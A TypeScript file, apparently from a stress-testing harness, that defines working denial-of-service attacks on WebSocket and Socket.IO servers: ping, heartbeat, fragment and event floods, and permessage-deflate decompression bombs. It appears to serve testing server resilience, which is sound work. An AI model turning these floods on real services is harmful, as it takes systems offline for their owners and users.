import type { Socket } from "node:net";
import { constants, deflateRawSync } from "node:zlib";
import type { Field } from "../attackers/field.ts";
import { frame, opcodes } from "../attackers/frames.ts";
import { openWebSocket, type PeerOptions } from "../attackers/websocket-peer.ts";
import type { Attack } from "./attack.ts";

/** Bytes that a peer has not taken, past which it is left alone: the flood is the server's to bear. */
const MAX_UNSENT_BYTES = 1_000_000;

interface Flood extends PeerOptions {
  readonly connections: number;
  /** Bursts a second, of all connections together. */
  readonly perSecond: number;
  /** What a burst is, in one write. */
  readonly burst: Buffer;
}

/** Keeps connections, and sends bursts by one after another. */
function flood(field: Field, { connections, perSecond, burst, ...options }: Flood): void {
  const all: Socket[] = [];
  let opening = 0;
  field.keep(
    connections,
    200,
    () => all.length + opening,
    () => {
      opening += 1;
      let isOpen = false;
      const socket = openWebSocket(
        field,
        (upgraded) => {
          isOpen = true;
          opening -= 1;
          all.push(upgraded);
        },
        options,
      );
      socket.on("close", () => {
        if (isOpen) all.splice(all.indexOf(socket), 1);
        else opening -= 1;
        field.count("ended");
      });
    },
  );
  let turn = 0;
  field.every(perSecond, () => {
    turn += 1;
    const socket = all[turn % Math.max(1, all.length)];
    if (socket === undefined || socket.writableLength > MAX_UNSENT_BYTES) return;
    socket.write(burst);
    field.count("bursts");
  });
}

function times(count: number, one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => one));
}

export const pingFlood: Attack = {
  about: "20 WebSockets send 100,000 pings a second, and read no pong",
  begin: (field) =>
    flood(field, {
      connections: 20,
      perSecond: 1_000,
      burst: times(100, frame(opcodes.ping, "x".repeat(100))),
      reads: false,
    }),
};

export const pingFloodRead: Attack = {
  about: "20 WebSockets send 100,000 pings a second, and read the pongs",
  begin: (field) =>
    flood(field, {
      connections: 20,
      perSecond: 1_000,
      burst: times(100, frame(opcodes.ping, "x")),
    }),
};

export const heartbeatFlood: Attack = {
  about: "20 sessions send 100,000 heartbeats of Engine.IO a second",
  begin: (field) =>
    flood(field, {
      connections: 20,
      perSecond: 1_000,
      burst: times(100, frame(opcodes.text, "3")),
    }),
};

export const fragmentFlood: Attack = {
  about: "20 WebSockets send 100,000 empty fragments a second, of messages that never end",
  begin: (field) =>
    flood(field, {
      connections: 20,
      perSecond: 1_000,
      burst: times(100, frame(opcodes.continuation, "", { isFinal: false })),
      joins: false,
      // Begins the message that the others go on with.
      prelude: frame(opcodes.text, "", { isFinal: false }),
    }),
};

export const deflateBomb: Attack = {
  about: "20 WebSockets send 100 messages a second, each of which inflates to 64 MB",
  server: { perMessageDeflate: true },
  begin: (field) =>
    flood(field, {
      connections: 20,
      perSecond: 100,
      burst: frame(opcodes.text, deflated(64_000_000), { isCompressed: true }),
      offersDeflate: true,
    }),
};

export const deflatePuffs: Attack = {
  about: "20 WebSockets send 20 messages a second, each of which inflates to 999,990 bytes",
  server: { perMessageDeflate: true },
  begin: (field) =>
    flood(field, {
      connections: 20,
      perSecond: 20,
      burst: frame(opcodes.text, deflated(999_990), { isCompressed: true }),
      offersDeflate: true,
    }),
};

export const eventFlood: Attack = {
  about: "10 sockets send 100,000 events a second, of which each may send 1,000",
  begin: (field) =>
    flood(field, {
      connections: 10,
      perSecond: 1_000,
      burst: times(100, frame(opcodes.text, '42["nobody","listens"]')),
    }),
};

/** A message of letters, as permessage-deflate sends it (RFC 7692 §7.2.1). */
function deflated(bytes: number): Buffer {
  const text = Buffer.alloc(bytes, "x");
  text.write('42["nobody","');
  text.write('"]', bytes - 2);
  const compressed = deflateRawSync(text, { finishFlush: constants.Z_SYNC_FLUSH });
  return compressed.subarray(0, compressed.length - 4);
}
